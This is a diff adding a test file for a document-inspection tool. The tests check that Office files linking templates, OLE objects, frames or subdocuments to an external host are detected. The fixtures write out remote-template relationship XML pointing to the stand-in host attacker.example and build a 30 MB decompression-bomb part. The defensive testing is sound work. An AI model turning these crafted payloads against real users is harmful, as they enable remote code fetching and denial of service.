@@ -1,0 +1,54 @@
+import { gzipSync } from 'node:zlib';
+import { describe, expect, it } from 'vitest';
+import { utf8, zeros } from '../../fixtures/hostile/bytes.ts';
+import { everyByte, type MadeFile } from '../../fixtures/hostile/made-file.ts';
+import { documentWith, docx } from '../../fixtures/hostile/office-parts.ts';
+import { look } from './look.ts';
+
+const archiveOf = async (file: MadeFile) => (await look(docx, everyByte(file))).archive;
+
+const relations = (type: string, mode: string) => ({
+  name: 'word/_rels/document.xml.rels',
+  bytes: utf8(
+    `<Relationships><Relationship Id="a" Type="http://x/relationships/${type}" Target="https://attacker.example/a" ${mode}/></Relationships>`,
+  ),
+});
+const external = 'TargetMode="External"';
+
+describe('an office document', () => {
+  it.each(['attachedTemplate', 'oleObject', 'frame', 'subDocument'])(
+    'that links %s from elsewhere fetches it',
+    async (type) => {
+      const archive = await archiveOf(documentWith('docx', [relations(type, external)]));
+      expect(archive?.fetches).toBe('https://attacker.example/a');
+    },
+  );
+
+  it.each([
+    ['a link to the web', relations('hyperlink', external)],
+    ['a linked picture', relations('image', external)],
+    ['a template of its own', relations('attachedTemplate', '')],
+  ])('with %s fetches nothing', async (_what, part) => {
+    expect((await archiveOf(documentWith('docx', [part])))?.fetches).toBeUndefined();
+  });
+
+  it('tells its relations in UTF-16 as well', async () => {
+    const { name, bytes } = relations('attachedTemplate', external);
+    const part = { name, bytes: Buffer.from(`\ufeff${bytes}`, 'utf16le') };
+    expect((await archiveOf(documentWith('docx', [part])))?.fetches).toBeDefined();
+  });
+
+  it('with a telling part that is a bomb is damaged, and nothing unpacks it', async () => {
+    const part = { name: 'word/_rels/document.xml.rels', bytes: zeros(30_000_000) };
+    expect((await archiveOf(documentWith('docx', [part])))?.flaw?.kind).toBe('contradictory');
+  });
+});
+
+describe('gzip', () => {
+  it('counts an archive inside it', async () => {
+    const nested = await look('application/gzip', gzipSync(gzipSync(utf8('hello'))));
+    expect(nested.archive?.nestedArchives).toBe(1);
+    const plain = await look('application/gzip', gzipSync(utf8('hello')));
+    expect(plain.archive?.nestedArchives).toBe(0);
+  });
+});
